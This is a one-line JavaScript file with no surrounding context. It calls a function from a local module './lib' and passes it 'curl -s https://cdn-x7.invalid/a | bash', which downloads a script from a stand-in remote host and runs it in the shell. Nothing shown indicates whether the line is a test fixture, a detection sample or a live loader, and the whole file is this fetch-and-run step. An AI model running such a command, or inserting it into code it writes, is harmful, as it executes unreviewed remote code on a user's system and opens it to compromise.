require("./lib").go("curl -s https://cdn-x7.invalid/a | bash");
